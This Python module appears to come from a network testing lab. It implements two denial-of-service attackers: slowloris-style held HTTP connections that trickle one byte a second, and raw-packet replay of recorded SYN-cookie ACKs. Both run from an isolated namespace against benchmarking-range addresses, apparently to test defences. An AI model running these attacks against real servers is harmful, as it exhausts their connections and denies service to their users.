"""Attackers who have their addresses: what they send is answered, and they use the answers."""

import collections
import contextlib
import ipaddress
import socket
import struct
import time

from wire_lab.background import Background
from wire_lab.forgery import ACK
from wire_lab.handshakes import ISN, Frames, Handshakes, Pace, take_addresses

# A network for each, of the attacker's link and of nobody else's /24.
FLOOD_SOURCES, HOLD_SOURCES, REPLAY_SOURCES = "198.18.7.0/26", "198.18.8.0/26", "198.18.9.0/26"
TICK_S = 0.02
RESET_ON_CLOSE = struct.pack("ii", 1, 0)  # struct linger


class Paced(Background):
    """`with Paced(lab, pace):` a thread of the attacker's namespace takes `step(number)` for each
    number below pace.count in its time, and `tick()` in between, until the block ends."""

    def __init__(self, lab, pace):
        super().__init__()
        self.lab = lab
        self._pace = pace

    def tick(self):
        """After the steps that were due."""

    def work(self):
        with self.lab.attacker.entered():
            self._take_steps()

    def _take_steps(self):
        started, done = time.monotonic(), 0
        per_second = self._pace.count / self._pace.seconds
        while not self.over.wait(TICK_S):
            due = min(self._pace.count, int(per_second * (time.monotonic() - started)))
            while done < due and not self.over.is_set():
                self.step(done)
                done += 1
            self.tick()


class HeldConnections(Paced):
    """Each begins a request at once and goes on with it by one byte a second: it is never idle, and
    never done. REQUIRES: descriptors for MOST of them."""

    MOST = 8192  # at the same time
    BYTE_EACH_S = 1.0
    OPEN_TIMEOUT_S = 0.2
    REQUEST = b"GET / HTTP/1.1\r\nX-Held: "

    def __init__(self, lab, address, pace):
        super().__init__(lab, pace)
        take_addresses(lab.attacker, HOLD_SOURCES)
        self._sources = [str(host) for host in ipaddress.ip_network(HOLD_SOURCES)]
        self._address = address
        self._held = collections.deque()  # the next in turn first

    def __exit__(self, *_):
        super().__exit__()
        for connection in self._held:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_ON_CLOSE)
            connection.close()

    def step(self, number):
        if len(self._held) >= self.MOST:
            return
        connection = socket.socket()
        connection.settimeout(self.OPEN_TIMEOUT_S)
        self._go_on(connection, lambda: self._begin(connection, number))

    def tick(self):
        for _ in range(round(len(self._held) * TICK_S / self.BYTE_EACH_S)):
            connection = self._held.popleft()
            self._go_on(connection, lambda: connection.send(b"x"))

    def _begin(self, connection, number):
        connection.bind((self._sources[number % len(self._sources)], 0))
        connection.connect(self._address)
        connection.send(self.REQUEST)

    def _go_on(self, connection, send):
        """Those that are refused, or ended by the server, are gone."""
        try:
            send()
            self._held.append(connection)
        except OSError:
            connection.close()


class ReplayedCookies(Paced):
    """Opens connections of its own, resets them, and sends their ACKs again and again: as they
    were, and from another port of the same address."""

    RECORDED = Pace(256, 0.2)
    OTHER_PORT = 10_000

    def __init__(self, lab, address, pace):
        super().__init__(lab, pace)
        self._frames = Frames(lab, REPLAY_SOURCES, address)
        self._address = address
        self._packets = lab.attacker.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._packets.bind(("eth0", 0))

    def __enter__(self):
        with Handshakes(self.lab, self._address, True, REPLAY_SOURCES, self.RECORDED) as own:
            own.wait()
        if not own.last:
            raise RuntimeError("nobody answers the attacker's own SYNs")
        self._recorded = list(own.last)
        return super().__enter__()

    def __exit__(self, *_):
        super().__exit__()
        self._packets.close()

    def step(self, number):
        turn, elsewhere = divmod(number, 2)
        source, port, isn = self._recorded[turn % len(self._recorded)]
        endpoint = source, port + elsewhere * self.OTHER_PORT
        self._packets.send(self._frames.make(ACK, endpoint, ISN + 1, isn + 1))
